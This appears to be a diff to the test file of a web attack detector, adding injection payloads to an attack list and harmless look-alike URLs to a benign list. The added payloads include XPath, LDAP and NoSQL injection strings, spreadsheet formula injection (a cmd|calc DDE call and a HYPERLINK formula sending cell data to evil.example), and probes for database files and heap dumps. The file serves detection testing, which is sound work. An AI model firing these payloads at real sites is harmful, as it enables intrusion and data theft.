@@ -91,6 +91,14 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['generic-ruby', '/api?x=Kernel.exec(%22id%22)'],
   ['generic-python', "/api?x=subprocess.check_output(['id'])"],
   ['rce-direct-command', '/cgi-bin/admin.cgi?Command=sysCommand&Cmd=id'],
+  ['protocol-xpath-injection', "/users?q=')]%20|%20//user/*[contains(*,'"],
+  ['protocol-ldap-injection', '/ldap?user=admin)(%26)'],
+  ['sqli-nosql-operator', '/api/users?q={"username":{"$gt":""},"password":{"$gt":""}}'],
+  ['rce-spreadsheet-formula', "/export?name=@SUM(1+9)*cmd|'%20/C%20calc'!A0"],
+  ['rce-spreadsheet-formula', '/export?name==HYPERLINK("http://evil.example/?x="%26A1,"click")'],
+  ['protocol-restricted-extension', '/db.sqlite3'],
+  ['lfi-restricted-file', '/phpinfo.php'],
+  ['lfi-restricted-file', '/actuator/heapdump'],
   ['session-id-param', '/app/(S(lit3py55t21z5v55vlm25s55))/default.aspx'],
   ['php-render-callback', '/user/register?element_parents=account/mail/%23value&ajax_form=1&mail[%23post_render][]=exec'],
   ['generic-ssrf-query-authority', '/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example'],
@@ -207,6 +215,13 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
 
 const BENIGN: readonly string[] = [
   '/search?q=python+subprocess+check_output+example', // the names without a call
+  '/search?q=count(/)+in+xpath', // XPath's words in a search
+  '/docs/xpath?expr=//book[price>35]/title',
+  '/export?format=csv&name=-5%25+discount', // a leading minus without a DDE call
+  '/search?q=@home+%7C+garden', // a handle and a pipe
+  '/api/orders?sort={"total":-1}&filter={"status":"paid"}', // a JSON filter without operators
+  '/actuator/health',
+  '/docs/php/phpinfo-function',
   '/cgi-bin/webscr?cmd=_s-xclick&hosted_button_id=ABC123', // PayPal's buttons
   '/admin.php?cmd=list&page=2',
   '/elfinder/php/connector.minimal.php?cmd=ls&target=l1_Lw&intersect[]=photo.jpg', // elFinder's own command names
